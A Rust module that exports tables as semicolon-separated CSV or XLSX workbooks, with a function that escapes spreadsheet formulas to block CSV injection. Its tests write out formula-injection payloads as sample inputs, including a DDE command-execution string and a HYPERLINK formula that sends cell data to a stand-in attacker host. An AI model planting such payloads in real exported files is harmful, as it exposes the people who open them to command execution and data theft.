//! Tabular exports: CSV that Russian Excel opens as is (UTF-8 BOM, semicolons) and real
//! XLSX workbooks (rust_xlsxwriter), from the same header and rows.

use axum::response::Response;

use crate::error::{AppError, AppResult};

/// A table to export: headers and string cells.
pub struct Sheet {
    pub title: String,
    pub headers: Vec<&'static str>,
    pub rows: Vec<Vec<String>>,
}

/// A spreadsheet reads a cell starting with `=`, `+`, `-`, `@` (or a tab or CR before
/// them) as a formula: `=HYPERLINK(…)` in a subscriber's name would run when a finance
/// clerk opens the export (F10). Such cells get a leading apostrophe, which Excel shows
/// as text; plain numbers (`-5`, `+7`) are left as they are.
fn neutralise(s: &str) -> std::borrow::Cow<'_, str> {
    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = {
        let t = s.strip_prefix(['+', '-']).unwrap_or(s);
        !t.is_empty()
            && t.chars()
                .all(|c| c.is_ascii_digit() || c == '.' || c == ',')
    };
    if risky && !number {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

fn csv_field(s: &str) -> String {
    let s = neutralise(s);
    if s.contains([';', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

/// CSV with a BOM and `;` separators.
pub fn csv(sheet: &Sheet) -> Vec<u8> {
    let mut out = String::from("\u{feff}");
    out.push_str(
        &sheet
            .headers
            .iter()
            .map(|h| csv_field(h))
            .collect::<Vec<_>>()
            .join(";"),
    );
    out.push_str("\r\n");
    for r in &sheet.rows {
        out.push_str(&r.iter().map(|c| csv_field(c)).collect::<Vec<_>>().join(";"));
        out.push_str("\r\n");
    }
    out.into_bytes()
}

/// An XLSX workbook with one sheet, a bold header row and fitted columns.
///
/// # Errors
/// The writer failed.
pub fn xlsx(sheet: &Sheet) -> AppResult<Vec<u8>> {
    use rust_xlsxwriter::{Format, Workbook};
    let mut wb = Workbook::new();
    let ws = wb.add_worksheet();
    let name: String = sheet
        .title
        .chars()
        .filter(|c| !"[]:*?/\\".contains(*c))
        .take(31)
        .collect();
    ws.set_name(name)
        .map_err(|e| AppError::Internal(e.into()))?;
    let bold = Format::new().set_bold();
    for (c, h) in sheet.headers.iter().enumerate() {
        ws.write_string_with_format(0, u16::try_from(c).unwrap_or(u16::MAX), *h, &bold)
            .map_err(|e| AppError::Internal(e.into()))?;
    }
    for (r, row) in sheet.rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            ws.write_string(
                u32::try_from(r + 1).unwrap_or(u32::MAX),
                u16::try_from(c).unwrap_or(u16::MAX),
                cell,
            )
            .map_err(|e| AppError::Internal(e.into()))?;
        }
    }
    ws.autofit();
    wb.save_to_buffer()
        .map_err(|e| AppError::Internal(e.into()))
}

/// The download response for `format` (`csv` or `xlsx`).
///
/// # Errors
/// `NotFound` for another format; writer errors.
pub fn respond(sheet: &Sheet, format: &str, base_name: &str) -> AppResult<Response> {
    match format {
        "csv" => Ok(crate::web::files::download(
            csv(sheet),
            "text/csv; charset=utf-8",
            &format!("{base_name}.csv"),
        )),
        "xlsx" => Ok(crate::web::files::download(
            xlsx(sheet)?,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            &format!("{base_name}.xlsx"),
        )),
        _ => Err(AppError::NotFound),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let s = Sheet {
            title: "t".into(),
            headers: vec!["a", "b"],
            rows: vec![vec!["x;y".into(), "\"q\"".into()]],
        };
        assert_eq!(
            String::from_utf8(csv(&s)).unwrap(),
            "\u{feff}a;b\r\n\"x;y\";\"\"\"q\"\"\"\r\n"
        );
    }

    #[test]
    fn xlsx_is_a_zip_workbook() {
        let s = Sheet {
            title: "Абоненты".into(),
            headers: vec!["ИНН"],
            rows: vec![vec!["4027291410".into()]],
        };
        assert!(xlsx(&s).unwrap().starts_with(b"PK\x03\x04"));
    }

    #[test]
    fn formulas_are_written_as_text() {
        assert_eq!(csv_field("=1+2;cmd"), "\"'=1+2;cmd\"");
        assert_eq!(
            csv_field("@SUM(1+1)*cmd|' /C calc'!A0"),
            "'@SUM(1+1)*cmd|' /C calc'!A0"
        );
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil.example/?\"&A2,\"Открыть\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Открыть\"\")\""
        );
        assert_eq!(csv_field("+7 900 000 0000"), "'+7 900 000 0000");
        assert_eq!(csv_field("\t=cmd"), "'\t=cmd");
        assert_eq!(csv_field("-4900.00"), "-4900.00");
        assert_eq!(csv_field("ООО «Ромашка»"), "ООО «Ромашка»");
    }
}
